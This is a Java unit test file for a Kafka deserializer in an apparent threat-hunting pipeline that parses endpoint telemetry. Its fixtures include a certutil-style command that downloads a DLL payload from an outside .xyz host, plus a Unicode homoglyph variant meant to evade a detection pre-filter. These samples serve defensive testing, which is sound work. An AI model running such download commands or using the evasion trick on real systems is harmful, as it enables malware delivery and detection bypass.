package dev.bazahunt.job.stream;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.bazahunt.job.pipeline.HuntTuning;
import dev.bazahunt.job.pipeline.TelemetryRecord;
import dev.bazahunt.job.testing.TestRows;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.apache.flink.api.common.serialization.DeserializationSchema;
import org.apache.flink.metrics.MetricGroup;
import org.apache.flink.metrics.groups.UnregisteredMetricsGroup;
import org.apache.flink.util.Collector;
import org.apache.flink.util.UserCodeClassLoader;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.junit.jupiter.api.Test;

/** The Kafka deserializer: the shared parser on message bytes, origins on dead letters, the pre-filter. */
class TelemetryDeserializerTest {
    private static final Instant T = Instant.parse("2021-07-20T14:02:58Z");

    private static List<TelemetryRecord> deserialize(boolean prefilter, String value, long offset) throws Exception {
        return deserialize(prefilter, StreamSettings.DEFAULT_MAX_MESSAGE_BYTES, value, offset);
    }

    private static List<TelemetryRecord> deserialize(boolean prefilter, int maxBytes, String value, long offset)
            throws Exception {
        return deserialize(new TelemetryDeserializer(prefilter, maxBytes), value, offset);
    }

    private static List<TelemetryRecord> deserialize(TelemetryDeserializer deserializer, String value, long offset)
            throws Exception {
        deserializer.open(new DeserializationSchema.InitializationContext() {
            @Override
            public MetricGroup getMetricGroup() {
                return new UnregisteredMetricsGroup();
            }

            @Override
            public UserCodeClassLoader getUserCodeClassLoader() {
                return null;
            }
        });
        List<TelemetryRecord> out = new ArrayList<>();
        deserializer.deserialize(new ConsumerRecord<>("defender", 1, offset, null,
                value.getBytes(StandardCharsets.UTF_8)), new Collector<>() {
                    @Override
                    public void collect(TelemetryRecord record) {
                        out.add(record);
                    }

                    @Override
                    public void close() {}
                });
        return out;
    }

    /** The download row of {@link TestRows#download}, field by field. */
    private static void isTheDownload(TelemetryRecord record) {
        assertThat(record.deadLetter).isNull();
        assertThat(record.fileEvent.deviceId).isEqualTo(TestRows.DEVICE);
        assertThat(record.fileEvent.reportId).isEqualTo(1L);
        assertThat(record.fileEvent.timestamp).isEqualTo(1_626_789_778_000_000_000L);
        assertThat(record.fileEvent.initiatingProcessFileName).isEqualTo("x8k2.exe");
        assertThat(record.fileEvent.initiatingProcessId).isEqualTo(7212L);
        assertThat(record.fileEvent.initiatingProcessCreationTime).isEqualTo(1_626_789_777_880_000_000L);
        assertThat(record.fileEvent.initiatingProcessCommandLine).isEqualTo(
                "x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll");
        assertThat(record.fileEvent.folderPath).isEqualTo("C:\\Users\\Public\\x8k2\\tmp1834.dll");
        assertThat(record.fileEvent.initiatingProcessAccountName).isEqualTo("m.ortiz");
    }

    @Test
    void downloadRowsAreParsedWithOrWithoutThePrefilter() throws Exception {
        String download = TestRows.line(TestRows.download(TestRows.DEVICE, T, 1));
        assertThat(deserialize(true, download, 7)).singleElement().satisfies(TelemetryDeserializerTest::isTheDownload);
        assertThat(deserialize(false, download, 7)).singleElement().satisfies(TelemetryDeserializerTest::isTheDownload);
    }

    @Test
    void benignMessagesAreSkippedUnparsedOnlyWithThePrefilterButStillMoveEventTime() throws Exception {
        String benign = TestRows.line(TestRows.benign(TestRows.DEVICE, T, 2));
        // Skipped, unparsed: only a clock record with the row's Timestamp, for the source's watermark.
        assertThat(deserialize(true, benign, 8)).singleElement().satisfies(record -> {
            assertThat(record.isClock()).isTrue();
            assertThat(record.eventTimeMillis()).isEqualTo(T.toEpochMilli());
            assertThat(record.fileEvent).isNull();
            assertThat(record.processEvent).isNull();
        });
        assertThat(deserialize(false, benign, 8)).singleElement().satisfies(record -> {
            assertThat(record.isClock()).isFalse();
            assertThat(record.fileEvent.reportId).isEqualTo(2L);
            assertThat(record.fileEvent.initiatingProcessCommandLine).isEqualTo("svchost.exe -k netsvcs -p");
            assertThat(record.fileEvent.folderPath).isEqualTo("C:\\Users\\m.ortiz\\NTUSER.DAT");
        });
    }

    @Test
    void withTheHardenedRuleThePrefilterKeepsItsEvasionsToo() throws Exception {
        ObjectNode evasive = TestRows.download(TestRows.DEVICE, T, 3);
        evasive.put("InitiatingProcessCommandLine", "x8k2.exe -urlc\u1d43che -f https://pshe0pxe339.xyz/a.php a.dll");
        String line = TestRows.line(evasive);
        assertThat(deserialize(true, line, 10)).as("the faithful needles alone skip it").singleElement()
                .satisfies(record -> assertThat(record.isClock()).isTrue());
        TelemetryDeserializer hardened = new TelemetryDeserializer(true, StreamSettings.DEFAULT_MAX_MESSAGE_BYTES,
                new HuntTuning(null, true, null).extraPrefilterNeedles());
        assertThat(deserialize(hardened, line, 10)).singleElement().satisfies(record ->
                assertThat(record.fileEvent.initiatingProcessCommandLine).contains("urlc\u1d43che"));
    }

    @Test
    void malformedMessagesBecomeDeadLettersThatNameTheirOrigin() throws Exception {
        List<TelemetryRecord> out = deserialize(false, "{\"records\":[{\"category\":\"AdvancedHunting-Device", 42);
        assertThat(out).singleElement().satisfies(record -> {
            assertThat(record.deadLetter.reason).isEqualTo("malformed-json");
            assertThat(record.deadLetter.detail).startsWith("not valid JSON: ").contains("at byte");
            assertThat(record.deadLetter.excerpt).isEqualTo("{\"category\":\"AdvancedHunting-Device");
            assertThat(record.deadLetter.recordIndex).isEqualTo(0);
            assertThat(record.deadLetter.topic).isEqualTo("defender");
            assertThat(record.deadLetter.partition).isEqualTo(1);
            assertThat(record.deadLetter.offset).isEqualTo(42L);
        });
    }

    @Test
    void aMessageAboveTheSizeGuardIsADeadLetterWithItsSizeAndStart() throws Exception {
        String download = TestRows.line(TestRows.download(TestRows.DEVICE, T, 1));
        int size = download.getBytes(StandardCharsets.UTF_8).length;
        assertThat(deserialize(false, size, download, 9)).singleElement()
                .satisfies(r -> assertThat(r.fileEvent).isNotNull());
        List<TelemetryRecord> out = deserialize(true, size - 1, download, 9);
        assertThat(out).singleElement().satisfies(record -> {
            assertThat(record.deadLetter.reason).isEqualTo("oversized-record");
            assertThat(record.deadLetter.detail)
                    .isEqualTo("message of " + size + " bytes, more than --max-message-bytes " + (size - 1));
            assertThat(record.deadLetter.excerpt).isEqualTo(download.length() <= 512 ? download
                    : download.substring(0, 512) + "…");
            assertThat(record.deadLetter.offset).isEqualTo(9L);
        });
    }
}
